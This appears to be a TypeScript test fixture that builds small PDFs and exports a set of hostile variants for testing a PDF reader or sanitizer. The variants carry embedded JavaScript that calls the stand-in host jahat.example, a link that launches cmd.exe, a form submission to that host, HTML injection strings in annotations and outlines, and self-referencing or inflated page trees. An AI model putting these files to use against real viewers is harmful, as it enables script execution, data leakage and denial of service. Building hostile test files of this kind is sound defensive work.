/** A PDF of one page that says `Halaman utuh`, with whatever else its catalog and its page are given. */
function pdf(inCatalog: string, inPage: string, more: readonly string[] = []): Buffer {
  const text = 'BT /F1 24 Tf 72 700 Td (Halaman utuh) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${inCatalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${inPage}
     /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    ...more,
  ];
  let body = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer
<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]`;
const SCRIPT = 'app.alert("terbuka"); fetch("https://jahat.example/")';

/** Files that try something; each is also a page that can be read. */
export const HOSTILE: Readonly<Record<string, Buffer>> = {
  'a script on opening': pdf(`/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>`, ''),
  'a script by name': pdf(
    `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >>`,
    '',
  ),
  'a script of the page': pdf('', `/AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >>`),
  'a link to a script': pdf('', link('/S /URI /URI (javascript:alert\\(1\\))')),
  'a link that runs a script': pdf('', link(`/S /JavaScript /JS (${SCRIPT})`)),
  'a link that starts a program': pdf('', link('/S /Launch /F (cmd.exe)')),
  'a link that sends a form': pdf('', link('/S /SubmitForm /F (https://jahat.example/)')),
  'markup as text of a note': pdf(
    '',
    '/Annots [<< /Type /Annot /Subtype /Text /Rect [10 10 40 40] /Contents (<img src=x onerror=alert\\(1\\)>) >>]',
  ),
  'markup as its contents': pdf('/Outlines 5 0 R', '', [
    '<< /First 6 0 R /Last 6 0 R /Count 1 >>',
    '<< /Title (<img src=x onerror=alert\\(1\\)>) /Parent 5 0 R /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
  ]),
  'pages that contain themselves': Buffer.from(
    pdf('', '').toString('latin1').replace('[3 0 R] /Count 1', '[2 0 R] /Count 9'),
    'latin1',
  ),
  'a million pages that are not there': Buffer.from(
    pdf('', '').toString('latin1').replace('/Count 1 ', '/Count 1000000 '),
    'latin1',
  ),
};
